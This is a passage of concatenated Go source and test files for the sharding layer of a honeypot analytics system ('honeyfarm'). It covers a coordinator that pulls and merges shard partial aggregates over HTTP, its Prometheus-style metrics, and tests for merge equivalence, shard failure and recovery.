	if cfg.PullEvery <= 0 {
		cfg.PullEvery = 250 * time.Millisecond
	}
	if cfg.FailAfter <= 0 {
		cfg.FailAfter = 3
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{Timeout: 5 * time.Second}
	}
	pullLat, err := stats.NewHistogram(PullLatencyBuckets())
	if err != nil {
		return nil, fmt.Errorf("shard: %w", err)
	}
	c := &Coordinator{
		cfg:     cfg,
		epoch:   store.NormalizeEpoch(cfg.Epoch),
		client:  cfg.Client,
		shards:  make([]shardState, len(cfg.Shards)),
		pullLat: pullLat,
		dirty:   make(chan struct{}, 1),
		stopCh:  make(chan struct{}),
	}
	for i, url := range cfg.Shards {
		c.shards[i] = shardState{url: url, up: true}
	}
	c.cur.Store(query.MaterializeSnapshot(c.emptyBundle(), 0, 0, cfg.Tagger, nil))
	c.restarter = faults.NewRestarter(faults.RestarterConfig{
		Backoff: cfg.Retry.Backoff,
		Try:     c.tryProbe,
		Stop:    c.stopCh,
		Pending: 2*len(cfg.Shards) + 8,
	})
	for i := range c.shards {
		c.wg.Add(1)
		go c.pullLoop(i)
	}
	c.wg.Add(1)
	go c.mergeLoop()
	return c, nil
}

// Stop ends the pullers, probes, and merger, and joins them all.
func (c *Coordinator) Stop() {
	c.stopOnce.Do(func() { close(c.stopCh) })
	c.restarter.Wait()
	c.wg.Wait()
}

// Snapshot returns the most recently merged snapshot. It never blocks
// and never returns nil (query.Source).
func (c *Coordinator) Snapshot() *query.Snapshot { return c.cur.Load() }

// Seq returns the sum of installed shard sequences — the number of
// records the merged state covers (query.Source).
func (c *Coordinator) Seq() uint64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.seq
}

// Epoch returns the fleet's normalized day-bucketing epoch
// (query.Source).
func (c *Coordinator) Epoch() time.Time { return c.epoch }

// ShardStatuses snapshots per-shard health for /v1/healthz — the
// query.ServerConfig.Shards hook.
func (c *Coordinator) ShardStatuses() []query.ShardStatus {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]query.ShardStatus, len(c.shards))
	for i := range c.shards {
		st := &c.shards[i]
		out[i] = query.ShardStatus{
			ID: i, URL: st.url, Up: st.up,
			LastSeq: st.seq, LastOKUnix: st.lastOK,
			Failures: st.failures, LastErr: st.lastErr,
		}
	}
	return out
}

// emptyBundle is the merge destination: shaped exactly like a shard's
// bundle so an empty merge materializes byte-identically to an empty
// single-node engine.
func (c *Coordinator) emptyBundle() *analysis.Partials {
	return analysis.NewPartials(c.cfg.NumPots, nil, c.cfg.Countries)
}

// pullLoop walks shard i's pull API on the configured cadence. Down
// shards are skipped — the probe loop owns them until they recover.
func (c *Coordinator) pullLoop(i int) {
	defer c.wg.Done()
	timer := time.NewTimer(c.cfg.PullEvery)
	defer timer.Stop()
	for running := true; running; {
		select {
		case <-c.stopCh:
			running = false
			continue
		case <-timer.C:
		}
		c.mu.Lock()
		up := c.shards[i].up
		c.mu.Unlock()
		if up {
			c.pullOnce(i)
		}
		timer.Reset(c.cfg.PullEvery)
	}
}

// PullLatencyBuckets is the deterministic bucket layout of the
// coordinator's pull-latency histogram: 1ms to 10s, log-spaced.
func PullLatencyBuckets() []float64 { return stats.LogBuckets(1e-3, 10, 12) }

// pullOnce performs one pull of shard i and reports whether the shard
// answered with an installable (or already-installed) frame. Latency
// is observed only when the coordinator has a clock (Config.Now), so
// clockless deterministic runs render an empty histogram.
func (c *Coordinator) pullOnce(i int) bool {
	var t0 time.Time
	if c.cfg.Now != nil {
		t0 = c.cfg.Now()
	}
	frame, err := c.fetch(i)
	if err == nil {
		err = c.install(i, frame)
	}
	c.mu.Lock()
	c.shards[i].pulls++
	if err != nil {
		c.shards[i].pullFails++
	} else if c.cfg.Now != nil {
		c.pullLat.Observe(c.cfg.Now().Sub(t0).Seconds())
	}
	c.mu.Unlock()
	if err != nil {
		c.noteFailure(i, err)
		return false
	}
	return true
}

// PullStats is one shard's cumulative pull accounting.
type PullStats struct {
	Pulls    uint64
	Failures uint64
}

// PullStatsAll returns per-shard cumulative pull counters.
func (c *Coordinator) PullStatsAll() []PullStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]PullStats, len(c.shards))
	for i := range c.shards {
		out[i] = PullStats{Pulls: c.shards[i].pulls, Failures: c.shards[i].pullFails}
	}
	return out
}

// PullLatency returns a merged copy of the successful-pull latency
// histogram.
func (c *Coordinator) PullLatency() *stats.Histogram {
	c.mu.Lock()
	defer c.mu.Unlock()
	cp, err := stats.NewHistogram(c.pullLat.Bounds())
	if err != nil {
		panic("shard: pull latency bounds invalidated: " + err.Error())
	}
	if err := cp.Merge(c.pullLat); err != nil {
		panic("shard: pull latency self-merge failed: " + err.Error())
	}
	return cp
}

// fetch GETs shard i's current partials frame.
func (c *Coordinator) fetch(i int) ([]byte, error) {
	c.mu.Lock()
	url := c.shards[i].url
	c.mu.Unlock()
	resp, err := c.client.Get(url + PartialsPath)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("shard: pull status %s", resp.Status)
	}
	return io.ReadAll(resp.Body)
}

// install validates the frame and installs it if it advances shard i's
// sequence. A frame behind the installed seq is the shard replaying its
// WAL after a restart: the pull still counts as healthy contact, but
// the installed state stands until the shard catches up.
func (c *Coordinator) install(i int, frame []byte) error {
	seq, days, parts, err := DecodePartialsFrame(frame)
	if err != nil {
		return err
	}
	if parts.NumPots() != c.cfg.NumPots {
		return fmt.Errorf("shard: bundle sized for %d pots, fleet has %d", parts.NumPots(), c.cfg.NumPots)
	}
	if (parts.Countries != nil) != c.cfg.Countries {
		return fmt.Errorf("shard: bundle country-table presence %v, fleet wants %v", parts.Countries != nil, c.cfg.Countries)
	}
	c.mu.Lock()
	st := &c.shards[i]
	st.up = true
	st.failures = 0
	st.lastErr = ""
	if c.cfg.Now != nil {
		st.lastOK = c.cfg.Now().Unix()
	}
	advanced := st.frame == nil || seq > st.seq
	if advanced {
		st.frame = frame
		st.seq = seq
		st.days = days
		var sum uint64
		for j := range c.shards {
			sum += c.shards[j].seq
		}
		c.seq = sum
	}
	c.mu.Unlock()
	if advanced {
		select {
		case c.dirty <- struct{}{}:
		default:
		}
	}
	return nil
}

// noteFailure counts one failed pull; FailAfter consecutive failures
// mark the shard down and hand it to the probe supervisor under a
// fresh generation.
func (c *Coordinator) noteFailure(i int, err error) {
	c.mu.Lock()
	st := &c.shards[i]
	st.failures++
	st.lastErr = err.Error()
	probe := st.up && st.failures >= c.cfg.FailAfter
	if probe {
		st.up = false
		st.gen++
	}
	gen := st.gen
	c.mu.Unlock()
	if probe {
		c.restarter.Request(i, gen)
	}
}

// tryProbe is the Restarter's attempt callback for a down shard: one
// pull. Success re-installs and marks the shard up; a stale generation
// means a newer mark-down owns the shard now.
func (c *Coordinator) tryProbe(i, gen, _ int) faults.RestartOutcome {
	c.mu.Lock()
	st := &c.shards[i]
	stale := st.up || st.gen != gen
	c.mu.Unlock()
	if stale {
		return faults.RestartDone
	}
	if c.pullOnce(i) {
		return faults.RestartDone
	}
	return faults.RestartRetry
}

// mergeLoop folds the installed frames into a published snapshot
// whenever an install advances a shard. Coalescing through the
// one-slot dirty channel means a burst of installs costs one merge.
func (c *Coordinator) mergeLoop() {
	defer c.wg.Done()
	for running := true; running; {
		select {
		case <-c.stopCh:
			running = false
			continue
		case <-c.dirty:
		}
		c.publish()
	}
}

// publish decodes every installed frame fresh, folds the bundles into
// one, and materializes through the same path as a single-node seal —
// so the merged snapshot is byte-identical (after JSON encoding) to an
// engine that ingested all shards' records directly.
func (c *Coordinator) publish() {
	c.mu.Lock()
	frames := make([][]byte, 0, len(c.shards))
	var seq uint64
	days := 0
	for i := range c.shards {
		st := &c.shards[i]
		if st.frame == nil {
			continue
		}
		frames = append(frames, st.frame)
		seq += st.seq
		if st.days > days {
			days = st.days
		}
	}
	c.mu.Unlock()
	dest := c.emptyBundle()
	for _, frame := range frames {
		_, _, parts, err := DecodePartialsFrame(frame)
		if err != nil {
			continue // unreachable: install validated the bytes
		}
		if err := dest.Merge(parts); err != nil {
			continue // unreachable: install validated the shape
		}
	}
	c.cur.Store(query.MaterializeSnapshot(dest, seq, days, c.cfg.Tagger, nil))
}
