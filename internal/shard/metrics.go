package shard

// /metrics registration for the two shard-fleet node shapes: the merge
// coordinator (per-shard pull health) and the collector shard (engine +
// WAL writer + optional wire front). Values are read through funcs at
// scrape time; nothing here touches the pull or ingest hot paths.

import (
	"strconv"
	"time"

	"honeyfarm/internal/metrics"
	"honeyfarm/internal/query"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/wal"
)

// RegisterCoordinatorMetrics exports the merge coordinator's per-shard
// pull health: up/seq/staleness gauges, cumulative pull counters, and
// the pull-latency histogram. now supplies the wall clock for the
// staleness gauges; nil renders them 0 (deterministic tests).
func RegisterCoordinatorMetrics(reg *metrics.Registry, c *Coordinator, now func() time.Time) {
	n := len(c.cfg.Shards)
	for i := 0; i < n; i++ {
		shard := i
		labels := metrics.Labels{"shard": strconv.Itoa(shard)}
		reg.GaugeFunc("honeyfarm_shard_up",
			"1 while the shard answers pulls, else 0.",
			labels, func() float64 {
				if c.ShardStatuses()[shard].Up {
					return 1
				}
				return 0
			})
		reg.GaugeFunc("honeyfarm_shard_last_seq",
			"Installed (merged) sequence of the shard.",
			labels, func() float64 { return float64(c.ShardStatuses()[shard].LastSeq) })
		reg.GaugeFunc("honeyfarm_shard_consecutive_failures",
			"Consecutive failed pulls since the shard last answered.",
			labels, func() float64 { return float64(c.ShardStatuses()[shard].Failures) })
		reg.GaugeFunc("honeyfarm_shard_staleness_seconds",
			"Seconds since the shard last answered a pull (0 without a clock or before first contact).",
			labels, func() float64 {
				last := c.ShardStatuses()[shard].LastOKUnix
				if now == nil || last == 0 {
					return 0
				}
				d := now().Unix() - last
				if d < 0 {
					return 0
				}
				return float64(d)
			})
		reg.CounterFunc("honeyfarm_shard_pulls_total",
			"Pull attempts against the shard.",
			labels, func() float64 { return float64(c.PullStatsAll()[shard].Pulls) })
		reg.CounterFunc("honeyfarm_shard_pull_failures_total",
			"Failed pull attempts against the shard.",
			labels, func() float64 { return float64(c.PullStatsAll()[shard].Failures) })
	}
	reg.HistogramFunc("honeyfarm_shard_pull_latency_seconds",
		"Latency of successful shard pulls (observed only with a clock).",
		nil, func() *stats.Histogram { return c.PullLatency() })
}

// BuildMergeRegistry assembles the full cmd/merge metric set — exactly
// what the merge node mounts at /metrics.
func BuildMergeRegistry(c *Coordinator, srv *query.Server, numPots int, now func() time.Time) *metrics.Registry {
	reg := metrics.NewRegistry()
	query.RegisterSourceMetrics(reg, c, numPots)
	RegisterCoordinatorMetrics(reg, c, now)
	query.RegisterServeMetrics(reg, srv)
	return reg
}

// BuildCollectorRegistry assembles the full cmd/shard metric set:
// source + engine + WAL writer health + serve rows, the WAL→engine
// ingest lag, and (when a wire front is running) the wire session
// counters — exactly what the collector shard mounts at /metrics.
func BuildCollectorRegistry(eng *query.Engine, health func() wal.Health, front *WireFront, srv *query.Server, numPots int) *metrics.Registry {
	reg := metrics.NewRegistry()
	query.RegisterSourceMetrics(reg, eng, numPots)
	query.RegisterEngineMetrics(reg, eng)
	if health != nil {
		query.RegisterWALHealthMetrics(reg, health)
		reg.GaugeFunc("honeyfarm_wal_ingest_lag_records",
			"Records appended to the WAL but not yet folded into the engine (the follower-lag of a collector).",
			nil, func() float64 {
				lag := float64(health().AppendedRecords) - float64(eng.Seq())
				if lag < 0 {
					// A recovered WAL re-counts from zero while the engine
					// replayed the full history; clamp rather than report a
					// negative lag.
					return 0
				}
				return lag
			})
	}
	if front != nil {
		RegisterWireMetrics(reg, front)
	}
	query.RegisterServeMetrics(reg, srv)
	return reg
}
