// Package shard implements the multi-node honeyfarm: collector shards
// that serve their mergeable partial-aggregate state over a small HTTP
// pull API, and a merge coordinator (coordinator.go) that supervises
// the fleet and folds shard partials into one global snapshot
// byte-identical to a single-node run over the same records.
//
// The wire unit is a partials frame: the WAL frame envelope (length +
// CRC-32C + kind byte, wal.FrameKindPartials) around a payload of
//
//	uint64 seq   — records folded into the bundle (a stream prefix)
//	uint64 days  — day buckets covered (engine's maxDay+1)
//	bytes  ...   — the analysis.Partials wire encoding
//
// The triple is cut under the shard engine's ingest mutex, so decoding
// a frame yields exactly the state of the shard's first seq records.
// Because the partials encoding walks every map in sorted key order,
// a given accumulator state has one exact byte string — a pull that
// observes no new records returns bit-identical bytes.
package shard

import (
	"fmt"
	"net/http"
	"strconv"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/query"
	"honeyfarm/internal/wal"
	"honeyfarm/internal/wire"
)

// PartialsPath is the shard pull API's endpoint: a GET returns the
// shard's current partials frame as an octet stream.
const PartialsPath = "/shard/v1/partials"

// EncodePartialsFrame cuts the engine's current accumulator state into
// a self-contained partials frame.
func EncodePartialsFrame(eng *query.Engine) []byte {
	body := wire.NewBuilder(64 << 10)
	seq, days := eng.EncodePartials(body)
	payload := wire.NewBuilder(16 + body.Len())
	payload.Uint64(seq)
	payload.Uint64(uint64(int64(days)))
	payload.Raw(body.Bytes())
	return wal.EncodeRawFrame(nil, wal.FrameKindPartials, payload.Bytes())
}

// DecodePartialsFrame validates one partials frame (envelope CRC, kind
// byte, exact-length payload) and decodes it back to the bundle plus
// the (seq, days) cut it covers.
func DecodePartialsFrame(frame []byte) (seq uint64, days int, parts *analysis.Partials, err error) {
	payload, _, err := wal.DecodeRawFrame(frame, wal.FrameKindPartials)
	if err != nil {
		return 0, 0, nil, err
	}
	r := wire.NewReader(payload)
	// Partials payloads scale with the client table, far past the SSH
	// string cap; the frame CRC already vouches for the bytes.
	r.SetMaxStringLen(len(payload))
	seq = r.Uint64()
	days = int(int64(r.Uint64()))
	parts, err = analysis.DecodePartials(r)
	if err != nil {
		return 0, 0, nil, err
	}
	if r.Remaining() != 0 {
		return 0, 0, nil, fmt.Errorf("shard: %d trailing bytes after partials payload", r.Remaining())
	}
	if days < 0 {
		return 0, 0, nil, fmt.Errorf("shard: negative day span %d", days)
	}
	return seq, days, parts, nil
}

// NewHandler returns the shard-side pull API over eng. It is mounted
// alongside the regular query API on a collector shard, so one listener
// serves both human-facing JSON and coordinator-facing frames.
func NewHandler(eng *query.Engine) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc(PartialsPath, func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet {
			w.Header().Set("Allow", "GET")
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
			return
		}
		frame := EncodePartialsFrame(eng)
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Length", strconv.Itoa(len(frame)))
		if _, err := w.Write(frame); err != nil {
			return // client went away mid-write; nothing to recover
		}
	})
	return mux
}
