package shard_test

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
)

// healthz renders /v1/healthz through the real query server wired to
// the coordinator, returning the HTTP status and body.
func healthz(t *testing.T, api *query.Server) (int, string) {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, "/v1/healthz", nil)
	rec := httptest.NewRecorder()
	api.Handler().ServeHTTP(rec, req)
	return rec.Code, rec.Body.String()
}

// feedSlowly folds recs into eng in small batches until done or
// stopped, so the coordinator observes a climbing sequence.
func feedSlowly(eng *query.Engine, recs []*honeypot.SessionRecord, stop <-chan struct{}, done chan<- struct{}) {
	defer close(done)
	const batch = 100
	for off := 0; off < len(recs); {
		select {
		case <-stop:
			return
		case <-time.After(time.Millisecond):
		}
		end := off + batch
		if end > len(recs) {
			end = len(recs)
		}
		eng.Ingest(recs[off:end])
		off = end
	}
	eng.Seal()
}

// TestCoordinatorChaos runs the full degradation story under -race: a
// shard is killed mid-pull (connection resets included), the merge
// keeps publishing from the healthy shards, /v1/healthz degrades to
// "degraded:shard", the snapshot sequence never regresses, the shard
// restarts at the same address with a fresh engine that re-feeds from
// zero (exercising the monotonic install guard during catch-up), and
// the merge re-converges to a snapshot byte-identical to a single-node
// run before healthz returns to "ok".
func TestCoordinatorChaos(t *testing.T) {
	base := runtime.NumGoroutine()
	d := dataset(t, 7)
	recs := d.Store.Records()
	total := uint64(len(recs))

	single := newEngine(d)
	single.Ingest(recs)
	want := mustJSON(t, single.Seal())

	const n = 3
	client := &http.Client{Timeout: 5 * time.Second}
	parts := make([][]*honeypot.SessionRecord, n)
	engines := make([]*query.Engine, n)
	shards := make([]*testShard, n)
	urls := make([]string, n)
	feedStop := make(chan struct{})
	feedDone := make([]chan struct{}, n)
	for i := 0; i < n; i++ {
		parts[i] = partition(recs, n, i)
		engines[i] = newEngine(d)
		shards[i] = startShard(t, engines[i])
		urls[i] = shards[i].url()
		feedDone[i] = make(chan struct{})
		go feedSlowly(engines[i], parts[i], feedStop, feedDone[i])
	}
	coord := startCoordinator(t, urls, client)
	api := query.NewServer(query.ServerConfig{Source: coord, Shards: coord.ShardStatuses})

	// Monitor: the published sequence must be monotonic through kill,
	// degradation, and catch-up.
	var monStop, monDone = make(chan struct{}), make(chan struct{})
	var regressed atomic.Bool
	go func() {
		defer close(monDone)
		var last uint64
		for running := true; running; {
			select {
			case <-monStop:
				running = false
				continue
			case <-time.After(time.Millisecond):
			}
			seq := coord.Snapshot().Seq
			if seq < last {
				regressed.Store(true)
			}
			last = seq
		}
	}()

	// Let the merge make real progress, then kill shard 0 mid-pull.
	waitFor(t, 10*time.Second, func() bool {
		return coord.Snapshot().Seq > total/8
	}, "initial merge progress")
	shards[0].kill()

	// The coordinator marks the shard down after FailAfter consecutive
	// failures and healthz degrades — while the snapshot keeps serving.
	waitFor(t, 10*time.Second, func() bool {
		for _, st := range coord.ShardStatuses() {
			if st.URL == urls[0] {
				return !st.Up
			}
		}
		return false
	}, "shard 0 to be marked down")
	if code, body := healthz(t, api); code != http.StatusServiceUnavailable || !strings.Contains(body, "degraded:shard") {
		t.Errorf("healthz with a down shard = %d %q, want 503 degraded:shard", code, body)
	}
	if coord.Snapshot() == nil {
		t.Fatal("snapshot unpublished while degraded")
	}

	// Healthy shards finish feeding while shard 0 is down.
	<-feedDone[1]
	<-feedDone[2]

	// Restart at the same address with a fresh engine: its sequence
	// restarts from zero and climbs — the monotonic guard must hold the
	// coordinator's installed state until the replay passes it.
	engines[0] = newEngine(d)
	refeedDone := make(chan struct{})
	shards[0].restart(shard.NewHandler(engines[0]))
	go feedSlowly(engines[0], parts[0], feedStop, refeedDone)

	// Re-convergence: full sequence, byte-identical to single-node.
	waitFor(t, 30*time.Second, func() bool {
		return coord.Snapshot().Seq == total
	}, "re-convergence to the full sequence")
	if got := mustJSON(t, coord.Snapshot()); !bytes.Equal(got, want) {
		t.Errorf("re-converged snapshot differs from single-node (%d vs %d bytes)", len(got), len(want))
	}
	waitFor(t, 10*time.Second, func() bool {
		for _, st := range coord.ShardStatuses() {
			if !st.Up {
				return false
			}
		}
		return true
	}, "all shards healthy again")
	if code, body := healthz(t, api); code != http.StatusOK || !strings.Contains(body, `"status":"ok"`) {
		t.Errorf("healthz after recovery = %d %q, want 200 ok", code, body)
	}
	if regressed.Load() {
		t.Error("published snapshot sequence regressed")
	}

	close(monStop)
	<-monDone
	close(feedStop)
	<-feedDone[0]
	<-refeedDone
	coord.Stop()
	for _, s := range shards {
		s.kill()
	}
	client.CloseIdleConnections()
	waitGoroutines(t, base)
}

// TestCoordinatorStaleFrameKeepsShardHealthy: a shard that answers
// pulls but stops advancing (its engine is sealed and idle) stays Up —
// staleness of content is not failure of the shard.
func TestCoordinatorStaleFrameKeepsShardHealthy(t *testing.T) {
	base := runtime.NumGoroutine()
	d := dataset(t, 1)
	recs := d.Store.Records()
	eng := newEngine(d)
	eng.Ingest(recs[:500])
	eng.Seal()
	client := &http.Client{Timeout: time.Second}
	s := startShard(t, eng)
	coord := startCoordinator(t, []string{s.url()}, client)
	waitFor(t, 10*time.Second, func() bool {
		return coord.Snapshot().Seq == 500
	}, "merge of the idle shard")
	// Several pull cycles later the shard must still be healthy and the
	// installed state unchanged.
	time.Sleep(50 * time.Millisecond)
	sts := coord.ShardStatuses()
	if len(sts) != 1 || !sts[0].Up || sts[0].Failures != 0 {
		t.Errorf("idle shard status = %+v, want Up with zero failures", sts)
	}
	if got := coord.Snapshot().Seq; got != 500 {
		t.Errorf("seq drifted to %d on an idle shard", got)
	}
	coord.Stop()
	s.kill()
	client.CloseIdleConnections()
	waitGoroutines(t, base)
}
