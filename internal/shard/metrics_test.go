package shard_test

// Goldens over the cmd/shard and cmd/merge metric surfaces.
// BuildCollectorRegistry renders deterministically from the fixture
// dataset (WAL health stubbed, no wire sessions driven). The merge
// surface has live pull counters, so its golden pins the schema —
// names, help, types, label sets — with sample values masked.

import (
	"flag"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
	"honeyfarm/internal/wal"
)

var updateGolden = flag.Bool("update", false, "rewrite the metrics golden files")

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	golden := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("missing golden (run go test ./internal/shard -update): %v", err)
	}
	if string(got) != string(want) {
		t.Fatalf("exposition changed\ngot:\n%s\nwant:\n%s", got, want)
	}
}

func fixtureEngine(t *testing.T) *query.Engine {
	t.Helper()
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 21, TotalSessions: 80, Days: 6, NumPots: 4,
	})
	if err != nil {
		t.Fatal(err)
	}
	eng := query.New(query.Config{
		Epoch: honeyfarm.DefaultEpoch, NumPots: 4,
		Registry: d.Registry, Tagger: analysis.Tagger(malware.NewTagger(nil)),
	})
	eng.Ingest(d.Store.Records())
	eng.Seal()
	return eng
}

func TestCollectorMetricsGolden(t *testing.T) {
	eng := fixtureEngine(t)
	front, err := shard.NewWireFront(shard.WireConfig{
		Shards: 2, Index: 0, NumPots: 4, Engine: eng,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer front.Close()
	health := func() wal.Health {
		return wal.Health{Appends: 16, AppendedRecords: int(eng.Seq()), Fsyncs: 16}
	}
	srv := query.NewServer(query.ServerConfig{Source: eng, WALHealth: health})
	reg := shard.BuildCollectorRegistry(eng, health, front, srv, 4)
	checkGolden(t, "collector_metrics.golden.txt", reg.Render())
}

// sampleValue masks the value field of every sample line, keeping the
// series identity (name + labels) and all comment lines intact.
var sampleValue = regexp.MustCompile(`^((?:[^#{ ]+)(?:\{[^}]*\})?) .*$`)

func maskValues(exposition []byte) []byte {
	lines := strings.Split(string(exposition), "\n")
	for i, ln := range lines {
		if ln == "" || strings.HasPrefix(ln, "#") {
			continue
		}
		lines[i] = sampleValue.ReplaceAllString(ln, "$1 V")
	}
	return []byte(strings.Join(lines, "\n"))
}

func TestMergeMetricsSchemaGolden(t *testing.T) {
	eng := fixtureEngine(t)
	shardSrv := httptest.NewServer(shard.NewHandler(eng))
	defer shardSrv.Close()

	coord, err := shard.New(shard.Config{
		Shards:    []string{shardSrv.URL},
		NumPots:   4,
		Countries: true,
		Epoch:     honeyfarm.DefaultEpoch,
		Tagger:    analysis.Tagger(malware.NewTagger(nil)),
		PullEvery: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer coord.Stop()
	waitFor(t, 5e9, func() bool { return coord.Seq() == eng.Seq() }, "merge catch-up")

	api := query.NewServer(query.ServerConfig{Source: coord})
	reg := shard.BuildMergeRegistry(coord, api, 4, nil)
	checkGolden(t, "merge_metrics_schema.golden.txt", maskValues(reg.Render()))

	// The values the schema golden masks still have to be coherent:
	// the installed shard seq is the fixture engine's full sequence.
	out := string(reg.Render())
	if !strings.Contains(out, `honeyfarm_shard_last_seq{shard="0"} `+strconv.FormatUint(eng.Seq(), 10)+"\n") {
		t.Errorf("merge registry missing installed shard seq:\n%s", out)
	}
	if !strings.Contains(out, `honeyfarm_shard_up{shard="0"} 1`+"\n") {
		t.Errorf("merge registry missing shard up gauge")
	}
}
