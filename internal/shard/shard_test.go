package shard_test

import (
	"bytes"
	"encoding/json"
	"net"
	"net/http"
	"runtime"
	"sync"
	"testing"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
)

const testPots = 37

func waitFor(t *testing.T, d time.Duration, cond func() bool, what string) {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

// waitGoroutines fails the test if the goroutine count does not settle
// back to the baseline (small slack for runtime helpers).
func waitGoroutines(t *testing.T, base int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= base+3 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	buf := make([]byte, 1<<20)
	n := runtime.Stack(buf, true)
	t.Fatalf("goroutine leak: %d running, baseline %d\n%s",
		runtime.NumGoroutine(), base, buf[:n])
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

var (
	dataOnce sync.Once
	dataSets map[int]*honeyfarm.Dataset
)

// dataset memoizes the generated test datasets per worker count; the
// dataset is deterministic, so sharing it across tests is safe.
func dataset(t *testing.T, workers int) *honeyfarm.Dataset {
	t.Helper()
	dataOnce.Do(func() { dataSets = map[int]*honeyfarm.Dataset{} })
	if d, ok := dataSets[workers]; ok {
		return d
	}
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 11, TotalSessions: 4000, Days: 60, NumPots: testPots, Workers: workers,
	})
	if err != nil {
		t.Fatal(err)
	}
	dataSets[workers] = d
	return d
}

// partition returns the records shard i of n owns: HoneypotID % n == i,
// the same rule cmd/shard applies.
func partition(recs []*honeypot.SessionRecord, n, i int) []*honeypot.SessionRecord {
	var out []*honeypot.SessionRecord
	for _, r := range recs {
		if ((r.HoneypotID%n)+n)%n == i {
			out = append(out, r)
		}
	}
	return out
}

func testTagger() analysis.Tagger { return analysis.Tagger(malware.NewTagger(nil)) }

func newEngine(d *honeyfarm.Dataset) *query.Engine {
	return query.New(query.Config{
		Epoch: honeyfarm.DefaultEpoch, NumPots: testPots,
		Registry: d.Registry, Tagger: testTagger(),
	})
}

// testShard is one collector shard under test: an engine served over a
// real TCP listener, killable and restartable at the same address.
type testShard struct {
	t      *testing.T
	engine *query.Engine
	addr   string

	mu  sync.Mutex
	srv *http.Server
}

// startShard binds a fresh shard on an ephemeral port.
func startShard(t *testing.T, eng *query.Engine) *testShard {
	t.Helper()
	s := &testShard{t: t, engine: eng}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s.addr = ln.Addr().String()
	s.serve(ln, shard.NewHandler(eng))
	return s
}

func (s *testShard) serve(ln net.Listener, h http.Handler) {
	srv := &http.Server{Handler: h}
	s.mu.Lock()
	s.srv = srv
	s.mu.Unlock()
	go func() { _ = srv.Serve(ln) }()
}

func (s *testShard) url() string { return "http://" + s.addr }

// kill closes the listener and severs every live connection — the
// in-process equivalent of SIGKILL plus connection resets.
func (s *testShard) kill() {
	s.mu.Lock()
	srv := s.srv
	s.srv = nil
	s.mu.Unlock()
	if srv != nil {
		_ = srv.Close()
	}
}

// restart rebinds at the same address, serving h (the restarted
// shard's handler — typically over a fresh engine that replays from
// scratch, so its sequence climbs from zero again).
func (s *testShard) restart(h http.Handler) {
	s.t.Helper()
	var ln net.Listener
	var err error
	// The freed port can take a moment to rebind.
	for i := 0; i < 100; i++ {
		ln, err = net.Listen("tcp", s.addr)
		if err == nil {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err != nil {
		s.t.Fatalf("rebinding %s: %v", s.addr, err)
	}
	s.serve(ln, h)
}

// startCoordinator builds a coordinator over the shard URLs with a
// fast pull cadence and aggressive probing, suitable for tests.
func startCoordinator(t *testing.T, urls []string, client *http.Client) *shard.Coordinator {
	t.Helper()
	coord, err := shard.New(shard.Config{
		Shards:    urls,
		NumPots:   testPots,
		Countries: true,
		Epoch:     honeyfarm.DefaultEpoch,
		Tagger:    testTagger(),
		PullEvery: 5 * time.Millisecond,
		FailAfter: 2,
		Client:    client,
	})
	if err != nil {
		t.Fatal(err)
	}
	return coord
}

// TestShardedSnapshotEquivalence extends the snapshot-equivalence
// contract to N nodes: the merged snapshot over N shard partitions is
// byte-identical (after JSON encoding) to a single-node engine over
// the full record stream — for N ∈ {1, 2, 4} and either generation
// worker count.
func TestShardedSnapshotEquivalence(t *testing.T) {
	base := runtime.NumGoroutine()
	for _, workers := range []int{1, 7} {
		d := dataset(t, workers)
		recs := d.Store.Records()
		single := newEngine(d)
		single.Ingest(recs)
		want := mustJSON(t, single.Seal())

		for _, n := range []int{1, 2, 4} {
			client := &http.Client{Timeout: 5 * time.Second}
			shards := make([]*testShard, n)
			urls := make([]string, n)
			for i := 0; i < n; i++ {
				eng := newEngine(d)
				eng.Ingest(partition(recs, n, i))
				eng.Seal()
				shards[i] = startShard(t, eng)
				urls[i] = shards[i].url()
			}
